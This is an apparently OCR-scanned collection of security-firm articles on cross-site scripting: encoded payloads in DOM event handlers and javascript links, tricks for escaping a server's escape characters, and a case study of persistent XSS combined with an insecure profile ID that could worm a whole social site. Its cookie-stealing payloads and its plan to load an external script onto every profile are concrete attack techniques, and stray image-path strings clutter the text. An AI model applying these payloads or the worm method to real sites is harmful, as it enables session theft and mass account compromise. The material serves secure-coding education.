WhiteHat Security, Inc.It’s a DOM Event

All user input must be properly escaped and encoded to prevent cross-site scripting. While the idea of sanitizing user input is nothing new to most developers, many of them encode special characters and fail to account for how the resulting document will handle the input. HTML encoding without proper escaping can lead to malicious code execution in the DOM.

Be sure to note that all of the following descriptions and comments are dependent on how the application output encodes the related content and, therefore, may not reflect the actual injection.


HTML Events

HTML events serve as a method to execute client-side script when related conditions are met within the contained HTML document. User-supplied input can be encoded in the related HTML; however, when the condition of the event is met, the document will decode the injection before sending it to the javascript engine for interpretation. Consider the example below of an embedded image that evaluates “userInput” when a user clicks on the image:

<img src="CoolPic.jpg" onclick="doSomethingCool('userInput');" />

Now here’s the same image that has been hi-jacked by an attacker with an encoded payload:

<img src="CoolPic.jpg" onclick="doSomethingCool('userInput&#000000039;);sendHaxor(document.cookie);//');" />

The hacker’s injection uses HTML decimal entity encoding with multiple zeros to show support for padding. When a user interacts with the altered image, the DOM will evaluate the original function, followed by the hacker’s injection, followed by double slashes toclean up any trailing residue from the original syntax. All of the character encoding presented immediately below will work across all current browsers, with the exception of HTML name entity apostrophe in Internet Explorer.


Vulnerable HTML Encoding


Javascript HREF/SRC

When javascript is referenced in either HREF or SRC of an HTML element an attacker can achieve code injection using the same method as above, but with the additional support for URL hex encoding. The DOM will construct the related javascript location before evaluating its contents. Here’s a dynamic link that, when followed, does something “cool” with user input:

<a href="doSomethingCool('userInput');">Cool Link</a>

The hacker likes the “super-cool” link so much that he decides to add his own content to capture the user’s session:<a href="doSomethingCool('userInput%27);sendHaxor(document.cookie);//');">Cool Link</a>



The lesson to be learned here is that encoding alone may not be enough to solve cross-site scripting. Therefore, encode all special characters to prevent an attacker from breaking the resulting HTML; escape each character to prevent breaking any related javascript; and, of course, always remember to escape the escapes.

<img src="CoolPic.jpg" onclick="doSomethingCool('userInput\\\');attackerBlocked();//');" />

Jason Calvert @mystech7
Application Security Engineer
WhiteHat Security, Inc.

Escaping Escapes

Sometimes a server will escape special characters that are injected: For instance, injecting a " character and having it reflect as \":

Injection: xss"



Sometimes, ironically enough, you can outsmart filters by using their own tricks against them. Try escaping their escape character like this:

Injection: xss\"



However, if the server escapes your injected \ as \\, this technique will not work:

Injection: xss\"


Not fun.If you’re able to break out by escaping their escape, you’ll need to blend back in with something other than a ", because the escaping process breaks the syntax:

Injection: xss\"*alert(1)*\"


The *\\ following alert(1) is not valid syntax and will cause an error.


Injection: xss\"*alert(1)//


Commenting out the rest is your best bet, unless they escape your // like \/\/. When this happens, I don’t think there’s much you can do.

Escaping escapes reminds me of the classic movie moment, when a bad guy gets the drop on a good guy, but then another good guy gets the drop on the bad guy. It always cracks me up when this evasion technique works.

How To Own Every User On A Social Networking Site

How to Own Every User on a Social Networking Site:
DOM-Based Persistent XSS Paired With Insufficient AuthorizationWhile performing business logic assessments of our clients’ Web applications we find numerous vulnerabilities on a daily basis. What sets these manual assessments apart from the single vulnerability identification process is that hands-on assessments have the ability to gain so much control of an application. In the example presented here we will see how the pairing of two high-risk vulnerabilities can result in an infinitely higher threat to this application and its users.

NOTE: Although I found the following vulnerability scenario on one of our client’s applications, I’ve stripped all of the identifying material, while still preserving, I hope, the severity of the findings and the technical specifics.


Let’s say that FAKESITE.com is a social networking site with millions of users, each having a unique profile and id.

The above URL would be an example of the public profile URL of every registered user, and the id is a base64 encoded value of some encrypted id interpreted onthe server side, with no sensitive information leaked by de-encoding it.

On their profile, users can add keywords or ‘tags,’ and these profiles can then be used as identifiers that other users of the site can use to do searches. For example, if I’m a rock climber who plays guitar and loves unicorns, I could add the tags: rock climbing, guitar, unicorns.

The POST request to perform this action of adding tags looks like this:

POST /profile.aspx/AddTag HTTP/1.1
Host: www.FAKESITE.com
User-Agent: Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10.6; en-US; rv: Gecko/20101026 Firefox/3.6.6
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
Accept-Language: en-us,en;q=0.5
Accept-Encoding: gzip,deflate
Accept-Charset:ISO-8859-1,utf-8;q=0.7,*;q=0.7
Keep-Alive: 115
Proxy-Connection: keep-alive
Content-Type: application/json; charset=utf-8
Referer: http://www.FAKESITE.com/profile.aspx?id=123BASE64VALUE456%3d%3d
Cookie: SessionID=12345;
Content-Length: 60


‘id’ is a parameter that is unique to each user and neverchanges. The ‘id’ parameter is also viewable in the user’s public profile URL.

‘tag’ is the value that the userenters in the text box on the profile view page. This value appears on both public and private profile pages, along with the list of tags that identify the user.

There is a character limit on the ‘tag’ value used in the text box form. But if the value is edited in a proxy, the limit is not enforced on the reflection; however, in order for our attack to be persistent, the ‘tag’ value must be within the character limit.

An example test injection that fits the character limit would be “<script>alert(1);//” because it will comment everything else out until a native </script> tag occurs in the html. This is a simple injection, in order to stay within the character limit.

A successful proof of concept where this injection would fit the character limit would be to call out to an external short URL. For example, wh.ly (not a real domain). In the PoC I made the home path a javascript file to limit the length of the injection. This allowed calling a large js command via a small injection.If a short URL is not available, another technique that has proven successful is daisy-chaining the ‘tag’ words together by starting and ending the injection with block comment HTML delimiters ‘<–’ and ‘–>’.

The injection reflects in the DOM-generated source, rather than on the native profile page’s html.
Generated Source reflection area:

<div id="tagWords" style="display: inline;">
<div>Profile Tags:</div>
<div id="divULTagWords">
<ul id="ulTagWords">
<li id="0"><span><script>alert(1);//</span></script></span></li></ul>

Now here’s the nasty part of this method’s capabilities:

The ‘id’ parameter in the POST request above can be altered to other base64 values that are easily found in the public profile URL of other users. When a request is submitted with a value that is considered a “valid” Tag Word, that tag is then persistently placed on the profile DOM of another user.Because I was able to call an external javascript file in this injection, I could rather quickly – and without authorization – write a large script that would scrub urls for thisbase64 value and push malicious code onto the profile of every user.

I could then perform many unauthorized actions, ranging from the somewhat benign (add the keyword mattjayisawesome to every profile) to the very malicious (use known browser exploits, steal user sessions, reset passwords, etc.). And because this method of attack requires no user interactionin order to infect every user on the site, and can also be self sustaining, it could be considered a wormable vulnerability.

Matt Johansen @mattjayApplication Security Specialist
WhiteHat Security, Inc.